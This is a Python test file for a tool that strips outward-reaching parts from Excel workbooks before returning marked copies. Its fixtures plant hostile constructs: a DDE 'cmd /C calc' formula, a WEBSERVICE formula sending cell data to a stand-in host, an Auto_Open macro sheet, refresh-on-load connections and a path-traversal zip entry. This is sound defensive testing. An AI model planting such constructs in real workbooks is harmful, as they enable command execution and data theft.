"""A marked copy carries nobody's program and reaches nowhere; what its cells show stays."""

from __future__ import annotations

import re
import zipfile
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest

from tests.files.marked.test_mark import FINDINGS, SHEET, own_workbook
from tests.office import sdk_errors
from xhg_excel.core.model.submission import Source, Submission
from xhg_excel.core.results.marks import marks_of
from xhg_excel.files.marked.copy import write_marked_copy
from xhg_excel.files.marked.cut_links import sever
from xhg_excel.files.marked.mark import mark
from xhg_excel.files.ooxml.text_package import TextPackage

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BAIT = "bait.example"
BOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
PART = "xl/worksheets/sheet2.xml"


def package(path: Path) -> TextPackage:
    return TextPackage(own_workbook(path), path.name)


def add(book: TextPackage, part: str, xml: str, owner: str, kind: str, content_type: str = "") -> None:
    """Add a part that `owner` relates to."""
    book[part] = xml
    book.relate(owner, f"rIdBait{len(book.parts)}", f"{OFFICE}/{kind}", part)
    if content_type:
        book.declare(part, content_type)


def relate_outside(book: TextPackage, owner: str, key: str, kind: str, target: str) -> None:
    book.relate(owner, key, f"{OFFICE}/{kind}", "x")
    rels = f"{owner.rpartition('/')[0]}/_rels/{owner.rpartition('/')[2]}.rels"
    book[rels] = book[rels].replace('Target="/x"', f'Target="{target}" TargetMode="External"')


def put_formula(book: TextPackage, formula: str, value: str = "<v>7</v>", attributes: str = "") -> None:
    """Put a formula into A2 of the second sheet, in the place of its 3."""
    cell = f"\\g<1><f{attributes}>{formula}</f>{value}</c>"
    book[PART] = re.sub(r'(<c r="A2"[^>]*>)<v>3</v></c>', cell, book[PART])


def with_external_book(book: TextPackage) -> None:
    link = f'<externalLink xmlns:r="{OFFICE}"><externalBook r:id="rId1"/></externalLink>'
    add(book, "xl/externalLinks/externalLink1.xml", link, "xl/workbook.xml", "externalLink", BOOK_TYPE)
    relate_outside(book, "xl/externalLinks/externalLink1.xml", "rId1", "externalLinkPath", f"http://{BAIT}/a.xlsx")
    references = '<externalReferences><externalReference r:id="rIdBait"/></externalReferences><definedNames>'
    book["xl/workbook.xml"] = book["xl/workbook.xml"].replace("<definedNames>", references, 1)
    name = "<definedName name='out'>[1]Sheet1!$A$1</definedName></definedNames>"
    book["xl/workbook.xml"] = book["xl/workbook.xml"].replace("</definedNames>", name, 1)
    put_formula(book, "SUM([1]Sheet1!$A$1,1)")


def with_dde(book: TextPackage) -> None:
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc bait.example"/></externalLink>'
    add(book, "xl/externalLinks/externalLink1.xml", link, "xl/workbook.xml", "externalLink", BOOK_TYPE)
    put_formula(book, "cmd|'/C calc bait.example'!A0")


def with_web_service(book: TextPackage) -> None:
    put_formula(book, f'_xlfn.WEBSERVICE("http://{BAIT}/?"&amp;A3)')


def with_link_formula(book: TextPackage) -> None:
    put_formula(book, f'HYPERLINK("http://{BAIT}","点这里")')


def with_link(book: TextPackage) -> None:
    relate_outside(book, PART, "rIdOut", "hyperlink", f"http://{BAIT}/")
    links = f'<hyperlinks><hyperlink ref="A2" xmlns:r="{OFFICE}" r:id="rIdOut"/></hyperlinks><pageMargins'
    book[PART] = book[PART].replace("<pageMargins", links, 1)


def with_far_picture(book: TextPackage) -> None:
    relate_outside(book, "xl/drawings/drawing1.xml", "rIdOut", "image", f"http://{BAIT}/seen.png")


def with_connection(book: TextPackage) -> None:
    xml = f'<connections><connection id="1" refreshOnLoad="1"><webPr url="http://{BAIT}"/></connection></connections>'
    add(book, "xl/connections.xml", xml, "xl/workbook.xml", "connections")


def with_macros(book: TextPackage) -> None:
    add(book, "xl/vbaProject.bin", "bait.example", "xl/workbook.xml", "vbaProject")


def with_macro_sheet(book: TextPackage) -> None:
    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    book["xl/macrosheets/sheet1.xml"] = '<xm:macrosheet><f>EXEC("bait.example")</f></xm:macrosheet>'
    book.relate("xl/workbook.xml", "rIdMacro", kind, "xl/macrosheets/sheet1.xml")
    workbook = book["xl/workbook.xml"].replace("</sheets>", '<sheet name="宏1" sheetId="99" r:id="rIdMacro"/></sheets>')
    name = "<definedName name='_xlnm.Auto_Open' xlm=\"1\">宏1!$A$1</definedName></definedNames>"
    book["xl/workbook.xml"] = workbook.replace("</definedNames>", name, 1)


def with_entry_outside(book: TextPackage) -> None:
    book["../../bait.example"] = "bait.example"


BAITS = (
    with_external_book, with_dde, with_web_service, with_link_formula, with_link, with_far_picture, with_connection,
    with_macros, with_macro_sheet, with_entry_outside,
)  # fmt: skip


def holds_bait(content: bytes) -> list[str]:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return [n for n in archive.namelist() if BAIT in n or BAIT.encode() in archive.read(n)]


@pytest.mark.parametrize("lay", BAITS, ids=lambda lay: lay.__name__)
def test_a_marked_copy_holds_nothing_that_reaches_out_and_shows_the_same(lay: object, tmp_path: Path) -> None:
    book = package(tmp_path / "a.xlsx")
    lay(book)  # type: ignore[operator]
    baited = book.save()
    assert holds_bait(baited)

    marked = mark(baited, "a.xlsx", marks_of(FINDINGS))

    assert holds_bait(marked) == []
    shown = openpyxl.load_workbook(BytesIO(marked), data_only=True)[SHEET]
    formulas = openpyxl.load_workbook(BytesIO(marked))[SHEET]
    before = openpyxl.load_workbook(BytesIO(own_workbook(tmp_path / "b.xlsx")))[SHEET]
    assert [shown.cell(row, 1).value for row in (3, 4)] == [before.cell(row, 1).value for row in (3, 4)]
    assert shown["A2"].value in (3, 7)
    assert formulas["A2"].value in (3, 7)


def test_the_sender_is_told_and_the_source_keeps_its_links(tmp_path: Path) -> None:
    book = package(tmp_path / "a.xlsx")
    with_link(book)
    (tmp_path / "a.xlsx").write_bytes(book.save())
    before = (tmp_path / "a.xlsx").read_bytes()
    made = Submission(Source("a.xlsx"), findings=FINDINGS)

    said = write_marked_copy(tmp_path / "a.xlsx", made, tmp_path / "退回")

    assert "链接到外部文件、网址、程序的已去掉" in said
    assert (tmp_path / "a.xlsx").read_bytes() == before


def test_an_ordinary_workbook_is_left_as_it_is(tmp_path: Path) -> None:
    """Formulas, jumps within the workbook, names, a chart and a picture are nobody's way out."""
    book = package(tmp_path / "a.xlsx")
    put_formula(
        book,
        f'HYPERLINK("#\'{SHEET.replace(chr(39), chr(39) * 2)}\'!A1","[1]x|y!")&amp;SUM(A3:A4)'.replace(
            " & ", " &amp; "
        ),
    )
    before = dict(book.parts)

    assert not sever(book)
    assert book.parts == before


def test_cells_that_share_a_reaching_formula_keep_their_values(tmp_path: Path) -> None:
    book = package(tmp_path / "a.xlsx")
    put_formula(book, "[1]Sheet1!A1", attributes=' t="shared" ref="A2:A3" si="0"')
    book[PART] = re.sub(r'(<c r="A3"[^>]*>)<v>4</v>', r'\g<1><f t="shared" si="0"/><v>8</v>', book[PART])

    assert sever(book)

    assert "<f" not in book[PART].partition("</sheetData>")[0]
    assert [re.search(rf'<c r="A{row}"[^>]*><v>(\d)', book[PART])[1] for row in (2, 3)] == ["7", "8"]  # type: ignore[index]


@pytest.mark.slow
def test_severed_copies_are_valid_for_the_open_xml_sdk(tmp_path: Path) -> None:
    files = []
    for lay in (with_external_book, with_dde, with_web_service, with_link, with_far_picture, with_macro_sheet):
        book = package(tmp_path / "own.xlsx")
        lay(book)
        files.append(tmp_path / f"{lay.__name__}.xlsx")
        files[-1].write_bytes(mark(book.save(), "a.xlsx", marks_of(FINDINGS)))

    assert sdk_errors(files, "Microsoft365") == {}
